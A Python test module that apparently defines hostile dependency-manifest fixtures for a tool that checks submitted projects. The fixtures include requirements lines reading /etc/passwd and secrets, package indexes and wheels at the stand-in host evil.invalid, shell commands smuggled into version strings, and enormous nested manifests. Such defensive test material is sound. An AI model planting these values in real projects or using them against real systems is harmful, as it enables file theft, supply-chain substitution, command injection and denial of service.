"""Attacks by what a submission declares: K14 to K16, XB01 to XB06."""

import json

from tests.hostile.attack import Attack, Layer, Tries
from tests.hostile.base import Files

PROJECT = '[project]\nname = "desk"\nversion = "1"\ndependencies = ["flask==3.1.3"]\n'
CANARY = "/tmp/fg-canary-"


def _declared(id_: str, name: str, does: str, files: Files, *, finds: tuple[str, ...] = (),
              weighs: str = "served", says: tuple[str, ...] = ()) -> Attack:  # fmt: skip
    """Return an attack by files that declare dependencies."""
    return Attack(id=id_, name=name, layer=Layer.BUILD, tries=Tries.READING, does=does, files=files, finds=finds,
                  weighs=weighs, says=says)  # fmt: skip


def _requirements(*lines: str) -> Files:
    return {"requirements.txt": "\n".join(lines) + "\n"}


OPTIONS = _requirements(
    "-r /etc/passwd", "-r ../desk/acceptance/test_desk.py", "-c ../../home/fg-secret",
    "-r app/../../../home/fg-secret", "-r file:///etc/passwd", "-r http://127.0.0.1:9/r.txt",
    "--index-url http://127.0.0.1:9/simple", "--extra-index-url http://evil.invalid/simple",
    "--trusted-host evil.invalid", "--find-links /tmp", "--no-binary :all:", "--pre",
    "--require-hashes", "--config-settings x=y", "--global-option=--x", "flask==3.1.3",
)  # fmt: skip
URLS = _requirements(
    "evil @ file:///src/evil", "evil2 @ git+ssh://git@evil.invalid/x.git", "-e ./evil", "./evil",
    "./wheels/flask-99.0-py3-none-any.whl", "/src/wheels/flask-99.0-py3-none-any.whl",
    "flask @ https://evil.invalid/flask-3.1.3-py3-none-any.whl", "-e git+https://evil.invalid/x",
    "git+https://evil.invalid/y.git#egg=y", "C:\\evil", "~/evil", "flask==3.1.3",
)  # fmt: skip
CONFUSED = _requirements(
    "company-internal-auth>=99", "flaskgrade==999", 'pytest==0.0.1 ; python_version > "3"',
    "flsak-none-such", "flask==3.1.3",
)  # fmt: skip
ODD = {
    "requirements.txt": "\ufeffflask==3.1.3 \\\n  --index-url=http://127.0.0.1:9/ \\\n"
    "  --hash=sha256:00\n\uff46\uff4c\uff41\uff53\uff4b\nfla\u200bsk\nflask\u2028--pre\n"
    "x\x00y==1\nflask ; os_name == '\\\n--index-url http://127.0.0.1:9/'\n${HOME}/fg-secret\n"
    "evil==${FG_SECRET}\nflask[${HOME}]\n-\\\nr /etc/passwd\n\\\n-r /etc/passwd\n\x1b]0;pwn\x07\n"
    "\u202eksalf\nflask === 3.1.3\nflask==3.1.3+$(touch /tmp/fg-canary-XB01)\n`id`==1\n"
    "a" * 3000 + "\n" + "flask>=" + "1." * 400 + "1\n"
}
DEEP = 40_000
HUGE: Files = {
    "requirements.txt": "flask==3.1.3\n",
    "requirements/a.txt": "flask==3.1.3 ; " + "(" * 450 + "os_name=='x'" + ")" * 450 + "\n",
    "requirements/b.txt": "".join(f"-r c{number}.txt\n" for number in range(3000)),
    "requirements/c1.txt": "-r c1.txt\n-r ../requirements.txt\n-c c1.txt\n" * 3000,
    "requirements-dev.txt": "".join(f"fg-none-{number}\n" for number in range(60_000)),
    "pyproject.toml": PROJECT + "x = " + "[" * DEEP + "]" * DEEP + "\n",
    "setup.py": "x = a" + ".b" * 90_000 + "\n",
    "setup.cfg": "[options]\ninstall_requires =\n" + "    flask\n" * 50_000,
    "Pipfile": "[packages]\n" + "".join(f'"p{number}" = "*"\n' for number in range(20_000)),
    "Pipfile.lock": "[" * DEEP,
    "uv.lock": "[[package]]\n" * 50_000,
}
NESTED: Files = {
    "setup.py": "x = " + "(" * 90_000 + ")" * 90_000 + "\n",
    "poetry.lock": "x = " + "{a=" * DEEP + "1" + "}" * DEEP + "\n",
    "pyproject.toml": PROJECT + "a" + ".a" * DEEP + " = 1\n",
}
UNARY: Files = {
    "setup.py": "x = " + "-" * 190_000 + "1\n",
    "setup.cfg": "[options]\npython_requires = " + ",".join(f"!=3.99.{n}" for n in range(90_000)),
}
PYTHONS = ", ".join(["!=3.0.*", *(f"!=3.11.0.post{number}" for number in range(60_000)), "<0"])
RANGES: Files = {
    "pyproject.toml": f'[project]\nname = "desk"\nversion = "1"\nrequires-python = "{PYTHONS}"\n'
}
DYNAMIC: Files = {
    "pyproject.toml": '[project]\nname = "flask"\ndynamic = ["version", "dependencies"]\n'
    '[tool.setuptools.dynamic]\ndependencies = {file = ["/etc/passwd", "../../home/fg-secret"]}\n'
    'version = {attr = "app.trick.__doc__"}\n'
    '[build-system]\nrequires = ["evil @ file:///src/evil"]\nbuild-backend = "app.trick"\n'
    'backend-path = ["."]\n'
    '[tool.uv]\nindex-url = "http://127.0.0.1:9/simple"\noverride-dependencies = ["flask==0.1"]\n'
    'no-build = false\ncache-dir = "/tmp/fg-canary-XB03"\n'
    '[[tool.uv.index]]\nname = "x"\nurl = "http://127.0.0.1:9/simple"\ndefault = true\n'
    '[tool.uv.sources]\nflask = {path = "./evil"}\n',
    "uv.toml": 'index-url = "http://127.0.0.1:9/simple"\n',
    "pip.conf": "[global]\nindex-url = http://127.0.0.1:9/simple\n",
    ".netrc": "machine pypi.org login eve password eve\n",
    ".python-version": "/src/evil/python\n",
    "evil/setup.py": f"open('{CANARY}XB03', 'w')\n",
}
LOCKED = "".join(
    f'[[package]]\nname = "{name}"\nversion = "{version}"\n'
    for name, version in (("fg-none-such", "1"), ("flask", "0.1"), ("werkzeug", "0.1"))
)
LYING: Files = {
    "pyproject.toml": '[project]\nname = "desk"\nversion = "1"\ndependencies = ["flask>=3.1"]\n',
    "uv.lock": LOCKED.replace('"werkzeug"', '"jinja2"'),
    "poetry.lock": LOCKED,
    "Pipfile.lock": json.dumps({"default": {"flask": {"version": "==0.1", "file": "/etc/passwd"}}}),
    "requirements.txt": "flask>=3.1\n",
}
JUNK_LOCK: Files = {
    "requirements.txt": "flask>=3.1\n",
    "Pipfile.lock": json.dumps({"default": {"blinker": {"version": "==1.9.0"}}}),
    "poetry.lock": '[[package]]\nname = "blinker"\nversion = "1.9.0"\n',
}
MARKERS = _requirements(
    'flask==3.1.3 ; python_version > "3" or (os_name == "x" and extra == "y")',
    "flask==3.1.3 ; extra == '--index-url http://127.0.0.1:9/simple'",
    'flask==3.1.3 ; platform_release >= "x\\n-r /etc/passwd"',
    'fg-none-such ; python_version < "2"', "flask[async,dotenv,../../x]==3.1.3",
    'flask==3.1.3;sys_platform=="linux"#;--pre', "flask==3.1.3@ file:///etc/passwd",
)  # fmt: skip
TREE_WHEELS: Files = {
    **_requirements("--find-links wheels", "--no-index", "flask==3.1.3", "fg-in-tree==1.0"),
    "wheels/flask-3.1.3-py3-none-any.whl": b"PK\x05\x06" + b"\0" * 18,
    "wheels/fg_in_tree-1.0-py3-none-any.whl": b"PK\x05\x06" + b"\0" * 18,
    "flask-3.1.3-py3-none-any.whl": b"PK\x05\x06" + b"\0" * 18,
}

ATTACKS: tuple[Attack, ...] = (
    _declared("K14", "requirements-options", "options, and files to include from elsewhere",
              OPTIONS, finds=("requirements:include-outside", "requirements:index",
                              "requirements:option")),
    _declared("K15", "requirements-urls", "addresses, repositories and paths as requirements",
              URLS, finds=("requirements:url", "requirements:path")),
    _declared("K16", "confusion", "names of internal packages, of ours and of typing errors",
              CONFUSED),
    _declared("XB01", "odd-lines", "requirements with odd characters, continuations, variables",
              ODD, finds=("requirements:invalid",)),
    _declared("XB02", "huge", "manifests of every kind that are huge or deeply nested", HUGE),
    _declared("XB02", "nested", "a setup.py of parentheses, and deep tables", NESTED),
    _declared("XB02", "unary", "a setup.py of 190 thousand signs, a range of 90 thousand versions",
              UNARY),
    _declared("XB02", "python-range", "a range of Pythons with sixty thousand exceptions", RANGES),
    _declared("XB03", "dynamic", "settings of setuptools, uv and pip with paths and addresses",
              DYNAMIC, finds=("requirements:index",)),
    _declared("XB04", "lying-locks", "lock files that contradict what is declared", LYING,
              finds=("requirements:lock-stale",)),
    _declared("XB04", "junk-lock", "a lock file of something else, so that all counts as pinned",
              JUNK_LOCK, weighs="whole", finds=("pinning:open",)),
    _declared("XB05", "markers", "markers and extras with options in their strings", MARKERS),
    _declared("XB06", "wheels-in-tree", "wheels in the tree that pass for packages", TREE_WHEELS,
              finds=("requirements:index",)),
)  # fmt: skip
